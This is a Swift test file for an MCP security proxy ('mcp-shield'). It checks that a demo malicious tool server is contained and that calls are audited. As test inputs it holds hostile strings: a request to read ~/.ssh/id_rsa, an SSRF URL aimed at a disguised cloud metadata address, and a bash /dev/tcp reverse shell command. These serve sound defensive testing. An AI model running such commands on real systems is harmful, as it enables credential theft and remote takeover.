import Foundation
import MCP
import SystemPackage
import Testing

/// The official MCP Swift SDK client, through `mcp-shield proxy`, to the demo servers (which are
/// built on the SDK's server side).
@Suite(.serialized) struct SwiftSDKInteropTests {
    /// `mcp-shield proxy ... -- mcp-shield-demo-server KIND`, with an SDK client on its stdio.
    struct Connection {
        let process: Process
        let client: Client
        let database: String

        init(kind: String, extra: [String] = [], serverName: String? = nil, database: String? = nil, environment: [String: String] = [:]) async throws {
            self.database = database ?? NSTemporaryDirectory() + "mcp-shield-sdk-\(UUID().uuidString).db"
            let demo = CLI.binary.deletingLastPathComponent().appendingPathComponent("mcp-shield-demo-server").path
            process = Process()
            process.executableURL = CLI.binary
            process.arguments = ["proxy", "--server-name", serverName ?? "demo-\(kind)", "--db", self.database] + extra + ["--", demo, kind]
            process.environment = ["HOME": "/home/user", "PATH": "/usr/bin:/bin"].merging(environment) { _, given in given }
            let toProxy = Pipe()
            let fromProxy = Pipe()
            process.standardInput = toProxy
            process.standardOutput = fromProxy
            try process.run()
            let transport = StdioTransport(
                input: FileDescriptor(rawValue: fromProxy.fileHandleForReading.fileDescriptor),
                output: FileDescriptor(rawValue: toProxy.fileHandleForWriting.fileDescriptor))
            client = Client(name: "mcp-shield-interop", version: "1.0.0")
            _ = try await client.connect(transport: transport)
        }

        func close() async {
            await client.disconnect()
            process.terminate()
            process.waitUntilExit()
        }

        /// The text of a call's first content item.
        func call(_ tool: String, _ arguments: [String: Value]) async throws -> (text: String, isError: Bool) {
            let result = try await client.callTool(name: tool, arguments: arguments)
            guard case .text(let text, _, _)? = result.content.first else { return ("", result.isError ?? false) }
            return (text, result.isError ?? false)
        }
    }

    @Test func safeServerWorksThroughTheProxy() async throws {
        let connection = try await Connection(kind: "safe")
        let tools = try await connection.client.listTools().tools.map(\.name)
        #expect(tools == ["safe_tool", "get_time", "list_files"])
        let echo = try await connection.call("safe_tool", ["message": .string("hello")])
        #expect(echo.text == "hello" && !echo.isError)
        let time = try await connection.call("get_time", [:])
        #expect(time.text.hasPrefix("20") && !time.isError)
        let leak = try await connection.call("safe_tool", ["message": .string("ghp_4fR9zT2qLm8VxW1cK7bN3yH6pD0sJ5aE2gUi")])
        #expect(leak.isError && leak.text.contains("rule secret.github-token"))
        await connection.close()
    }

    @Test func maliciousServerIsContained() async throws {
        let connection = try await Connection(kind: "malicious")
        // read_secrets matches the default policy's blocked pattern "secret": hidden and blocked.
        let tools = try await connection.client.listTools().tools.map(\.name)
        #expect(tools == ["ssrf_fetch", "exec_command"])
        let hidden = try await connection.call("read_secrets", ["path": .string("~/.ssh/id_rsa")])
        #expect(hidden.isError && hidden.text.contains("rule tool.denied"))
        let metadata = try await connection.call("ssrf_fetch", ["url": .string("http://[::ffff:a9fe:a9fe]/latest/")])
        #expect(metadata.isError && metadata.text.contains("rule ssrf.metadata"))
        let reverseShell = try await connection.call("exec_command", ["command": .string("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")])
        #expect(reverseShell.isError && reverseShell.text.contains("mcp-shield blocked"))
        let harmless = try await connection.call("exec_command", ["command": .string("echo ok")])
        #expect(harmless.text == "ok\n" && !harmless.isError)
        await connection.close()
        // Every call was recorded, tagged with the server's name.
        let audit = try CLI.run(["audit", "--db", connection.database, "--json", "--server", "demo-malicious"])
        #expect(audit.stdout.split(separator: "\n").count == 4)
        #expect(audit.stdout.contains(#""surface":"proxy""#))
    }
}
